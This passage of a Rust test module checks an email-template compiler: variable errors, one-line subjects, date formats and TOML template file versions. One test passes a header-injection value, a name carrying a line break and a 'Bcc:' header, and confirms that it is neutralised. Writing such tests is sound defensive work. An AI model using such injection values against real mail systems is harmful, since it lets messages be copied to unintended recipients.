        let err = compile(&set).unwrap_err();
        assert!(
            err.message.contains("unknown variable `person.frist_name`"),
            "{}",
            err.message
        );
        assert!(
            err.message
                .starts_with("subject template, line 1, column 14"),
            "{}",
            err.message
        );
        let set = TemplateSet {
            html: "<p>{{ lnk }}</p>".into(),
            ..builtin()
        };
        assert!(compile(&set).unwrap_err().message.contains("`lnk`"));
        let metadata = TemplateSet {
            text: "{{ person.app_metadata.plan }} {{ link }}".into(),
            ..builtin()
        };
        assert!(compile(&metadata).is_ok(), "metadata keys are open");
    }

    #[test]
    fn subjects_must_be_one_nonempty_line() {
        let empty = TemplateSet {
            subject: "{% if false %}x{% endif %}  ".into(),
            ..builtin()
        };
        assert!(
            compile(&empty)
                .unwrap_err()
                .message
                .contains("renders to nothing")
        );
        let two = TemplateSet {
            subject: "Hello\n{{ person.email }}".into(),
            ..builtin()
        };
        assert!(
            compile(&two)
                .unwrap_err()
                .message
                .contains("more than one line")
        );
        // A person's name with a line break cannot break the subject.
        let set = TemplateSet {
            subject: "Welcome {{ person.given_name }}".into(),
            ..builtin()
        };
        let content = compile(&set)
            .unwrap()
            .render(
                &person("Eve\r\nBcc: x@y"),
                &link(),
                &MessageSettings::default(),
            )
            .unwrap();
        assert_eq!(content.subject, "Welcome Eve Bcc: x@y");
    }

    #[test]
    fn date_formats_and_durations() {
        let at = OffsetDateTime::from_unix_timestamp(1_795_000_000).unwrap();
        assert_eq!(DateFormat::Iso.format(at), "2026-11-18 11:06 UTC");
        assert_eq!(
            DateFormat::MonthDayYear.format(at),
            "November 18, 2026, 11:06 UTC"
        );
        assert_eq!(
            DateFormat::DayMonthNumeric.format(at),
            "18/11/2026 11:06 UTC"
        );
        assert_eq!(
            DateFormat::MonthDayNumeric.format(at),
            "11/18/2026 11:06 UTC"
        );
    }

    #[test]
    fn template_files_are_toml_and_version_1_files_still_read() {
        let old = TemplateFile::from_toml(
            "subject = \"Hi\"\nhtml = \"<p>{{ link }}</p>\"\ntext = \"\"\"\n{{ link }}\n\"\"\"\n",
        )
        .unwrap();
        let Some(Variant::Markup(set)) = old.languages.get("en") else {
            panic!("{old:?}")
        };
        assert_eq!(set.subject, "Hi");
        let err = TemplateFile::from_toml("subject = \"Hi\"\n").unwrap_err();
        assert!(err.message.contains("missing field"), "{}", err.message);

        let known = MessageSettings::default().known();
        let file = TemplateFile::new(
            Some("Acme onboarding".into()),
            MessageKind::Reminder,
            Template::builtin(MessageKind::Reminder, LinkKind::EmailVerification, known),
        );
        let again = TemplateFile::from_toml(&file.to_toml().unwrap()).unwrap();
        assert_eq!(again, file);
        assert_eq!(again.languages.len(), builtin::LANGUAGES.len());
        let newer = file
            .to_toml()
            .unwrap()
            .replace("version = 2", "version = 9");
        assert!(
            TemplateFile::from_toml(&newer)
                .unwrap_err()
                .message
                .contains("update Invite Desk")
        );
        let twice = "format = \"invite-desk-template\"\nversion = 2\n[languages.de_de]\nsubject = \"a\"\nhtml = \"{{ link }}\"\ntext = \"{{ link }}\"\n[languages.de-DE]\nsubject = \"a\"\nhtml = \"{{ link }}\"\ntext = \"{{ link }}\"\n";
        assert!(
            TemplateFile::from_toml(twice)
                .unwrap_err()
                .message
                .contains("two wordings for de-DE")
        );
    }
}
